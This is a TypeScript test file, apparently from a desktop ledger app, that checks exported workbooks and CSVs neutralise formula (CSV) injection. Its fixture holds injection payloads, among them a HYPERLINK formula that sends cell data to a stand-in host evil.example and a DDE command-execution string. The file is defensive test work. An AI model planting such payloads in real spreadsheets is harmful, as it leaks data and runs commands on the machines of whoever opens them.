import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBureauCommand } from '../../electron/cli/bureau/commands.js';
import { openBureau } from '../../electron/bureau/context.js';
import { masterListCsv, masterListWorkbook, sampleRows } from '../../electron/demo/bureau-samples.js';
import { DOCS_SAMPLES_CLOCK } from '../../electron/demo/sample-calendar.js';
import { applyAssignment } from '../../electron/sync/assignment-import.js';
import { readOfficerKey } from '../../electron/sync/keys.js';
import { formulaSafeText } from '../../electron/sync/sheet-text.js';
import { exportWeeklyPacket } from '../../electron/sync/weekly-export.js';
import { WEEKLY_LEDGER_PATH } from '@shared/packets/weekly.js';
import { makeTempDir, openTempStore, type TempDir, type TempStore } from '../helpers/temp-store.js';
import { perform } from '../helpers/operations.js';
import { readSheetXml, type XmlCell } from '../helpers/xlsx-xml.js';
import { unzip } from '../helpers/zip.js';

/**
 * Formula injection (OWASP "CSV injection"): text an officer or a master list wrote that begins with
 * = + - @ TAB or CR must reach every workbook we write as text a spreadsheet program never computes. The
 * officer's ledger is read out of a real weekly packet, the district ledger out of `bureau export-ledger`'s
 * file, both as the XML inside the .xlsx (no spreadsheet library in between), and the district ledger is
 * also opened by LibreOffice.
 */
const root = fileURLToPath(new URL('../..', import.meta.url));
const now = () => new Date('2026-11-20T10:00:00');

/** One text per character that starts a formula; the services trim a leading TAB or CR, so those two are planted in the tables. */
const HOSTILE = {
  eq: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1,2)',
  tab: '\t=1+1',
  cr: '\r=1+2',
} as const;
const ALL = Object.values(HOSTILE);
/** Each text's start as it appears in a CSV, where quotes are doubled. */
const CORES = ['=HYPERLINK(', '+1+cmd', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+2'];
const count = (text: string, part: string) => text.split(part).length - 1;

let dir: TempDir;
let db: string;
let store: TempStore;
let packetFile: string;

async function bureau(args: string[]): Promise<unknown> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await createBureauCommand({ now, env: {} }).run([...args, '--db', db, '--json'], { out: (t) => out.push(t), err: (t) => err.push(t) });
  if (code !== 0) throw new Error(`bureau ${args[0]} failed: ${out.join('\n')} ${err.join('\n')}`);
  return (JSON.parse(out.join('\n')) as { result: unknown }).result;
}

const call = <T = unknown>(name: string, input: unknown) => perform<T>(store.ctx, name, input);

/** Every cell of every sheet: none is a formula, each hostile text is there once made safe and never raw. */
function expectSafe(sheets: Map<string, { xml: string; cells: XmlCell[] }>, texts: readonly string[]): XmlCell[] {
  const cells = [...sheets.values()].flatMap((s) => s.cells);
  for (const [name, sheet] of sheets) {
    expect(sheet.xml, name).not.toMatch(/<f[\s>/]/);
    expect(
      sheet.cells.filter((c) => c.formula),
      name,
    ).toEqual([]);
  }
  for (const text of texts) {
    const shown = cells.filter((c) => c.text === `'${text}`);
    expect(shown.length, JSON.stringify(text)).toBeGreaterThan(0);
    // A typed string cell, never a formula's result (`str`): shared (`s`, the master-list samples) or inline
    // (`inlineStr`, the ledgers' streaming writer).
    for (const c of shown) expect(['s', 'inlineStr'], `${c.ref} ${JSON.stringify(text)}`).toContain(c.type);
    expect(
      cells.filter((c) => c.text === text),
      JSON.stringify(text),
    ).toEqual([]);
  }
  // No text cell anywhere begins with a formula character.
  expect(cells.filter((c) => c.text !== null && /^[=+\-@\t\r]/.test(c.text)).map((c) => c.ref)).toEqual([]);
  return cells;
}

beforeAll(async () => {
  dir = makeTempDir('sponsor-desk-formula-');
  db = dir.file('bureau/bureau.sqlite');
  mkdirSync(dir.file('assign'));
  mkdirSync(dir.file('usb'));
  await bureau(['init']);
  await bureau(['import-master', join(root, 'docs/samples/master-list.xlsx')]);
  const assignments = (await bureau(['assign', '--out', dir.file('assign')])) as { officerName: string; file: string }[];
  store = openTempStore({ now });
  await call('sync.trustBureauKey', { keyPem: readFileSync(dir.file('bureau/bureau.pub'), 'utf8') });
  await applyAssignment(store.ctx, assignments.find((a) => a.officerName === '李明')!.file);

  // The officer types them through the services, as the forms would send them.
  const projects = await call<{ id: string }[]>('projects.list', { includeArchived: false });
  const project = projects[0]!;
  const detail = await call<{ checklist: { id: string; closedOff: boolean; withdrawnAt: string | null }[] }>('projects.get', { projectId: project.id });
  await call('visits.log', {
    projectId: project.id,
    visitedOn: '2026-11-18',
    kind: 'site_visit',
    summary: HOSTILE.eq,
    findings: HOSTILE.plus,
    followUps: HOSTILE.minus,
    participants: HOSTILE.at,
  });
  const item = detail.checklist.find((c) => !c.closedOff && c.withdrawnAt === null)!;
  await call('checklist.closeOff', { itemId: item.id, effectiveOn: '2026-11-19', note: '材料已归档' });
  await call('problems.raise', {
    projectId: project.id,
    category: 'approval',
    description: '施工许可办理排队',
    responsibleDepartment: '区行政审批服务局',
    dueOn: '2026-12-31',
  });
  await call('investment.record', { projectId: project.id, month: '2026-10', amount: 815.5 });
  // A leading TAB or CR never passes the schemas' trimming; planted in the store (project fields, which assignments rewrite) as another writer could leave them.
  store.db.prepare('UPDATE projects SET industry = ?, location = ? WHERE id = ?').run(HOSTILE.tab, HOSTILE.cr, project.id);
  packetFile = (await exportWeeklyPacket(store.ctx, { outDir: dir.file('usb') })).filePath;
});

afterAll(() => {
  store?.close();
  dir?.remove();
});

describe('formula-looking text in the workbooks we write', () => {
  it('formulaSafeText quotes text that starts with one of the six formula characters, except a plain signed number', () => {
    for (const text of ALL) expect(formulaSafeText(text)).toBe(`'${text}`);
    for (const text of ['施工正常', '2026-11-18', '', "'=already quoted", ' =1', '1-2', 'a=b', '-5', '+3.5', '-0.25']) expect(formulaSafeText(text)).toBe(text);
    for (const text of ['-5+1', '-', '+86 139 0000 0000', '-5%', '=5', '@5']) expect(formulaSafeText(text)).toBe(`'${text}`);
  });

  it("the officer's ledger inside the weekly packet: no formula, every hostile text kept as quoted text, numbers as numbers", async () => {
    const ledger = (await unzip(readFileSync(packetFile))).get(WEEKLY_LEDGER_PATH)!;
    const cells = expectSafe(await readSheetXml(ledger), ALL);
    expect(cells.some((c) => c.type === null && c.value === '815.5')).toBe(true);
  });

  it('the district ledger from bureau export-ledger: the same', async () => {
    // The officer's key registered as a person would after reading its fingerprint back.
    writeFileSync(dir.file('li.pub'), readOfficerKey(store.db)!.publicKeyPem);
    await bureau(['officers', 'add', '--officer', '李明', '--key', dir.file('li.pub')]);
    const results = (await bureau(['ingest', packetFile])) as { status: string }[];
    expect(results.map((r) => r.status)).toEqual(['accepted']);
    // TAB and CR planted in the bureau's project row the same way (a master list's cells are trimmed too).
    const ctx = openBureau(db, now);
    ctx.db.prepare("UPDATE projects SET industry = ?, location = ? WHERE code = 'GX-2026-001'").run(HOSTILE.tab, HOSTILE.cr);
    ctx.db.close();
    const out = dir.file('全区台账.xlsx');
    await bureau(['export-ledger', '--out', out]);
    const cells = expectSafe(await readSheetXml(readFileSync(out)), ALL);
    expect(cells.some((c) => c.type === null && c.value === '815.5')).toBe(true);
  });

  const office = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path));
  it.skipIf(!office)('LibreOffice opens the district ledger and shows the texts, computing none of them', () => {
    const out = dir.file('全区台账.xlsx');
    expect(existsSync(out)).toBe(true);
    const csvDir = dir.file('lo');
    mkdirSync(csvDir);
    // Every sheet as CSV (the filter's 12th option, -1), text as LibreOffice shows it.
    execFileSync(
      office!,
      [
        '--headless',
        `-env:UserInstallation=file://${dir.file('lo-profile')}`,
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
        '--outdir',
        csvDir,
        out,
      ],
      { stdio: 'ignore', timeout: 120_000 },
    );
    const shown = readdirSync(csvDir)
      .map((f) => readFileSync(join(csvDir, f), 'utf8'))
      .join('\n');
    // Shown as the text itself (computed, the link would show its label, the sums their results).
    for (const core of CORES) expect(shown, JSON.stringify(core)).toContain(`'${core}`);
    expect(count(shown, "'=HYPERLINK(")).toBe(count(shown, '=HYPERLINK('));
  });

  it('the master-list workbook and CSV we write (samples and template) quote them too', async () => {
    const rows = sampleRows(DOCS_SAMPLES_CLOCK).slice(0, 2);
    rows[0] = { ...rows[0], name: HOSTILE.eq, company: HOSTILE.plus, location: HOSTILE.minus, sponsoringLeader: HOSTILE.at };
    rows[1] = { ...rows[1], name: HOSTILE.tab, company: HOSTILE.cr };
    const file = dir.file('list.xlsx');
    writeFileSync(file, masterListWorkbook(rows));
    expectSafe(await readSheetXml(readFileSync(file)), ALL);
    const csv = masterListCsv(rows).toString('utf8');
    for (const core of CORES) {
      expect(count(csv, core), JSON.stringify(core)).toBeGreaterThan(0);
      expect(count(csv, `'${core}`), JSON.stringify(core)).toBe(count(csv, core));
    }
  });
});
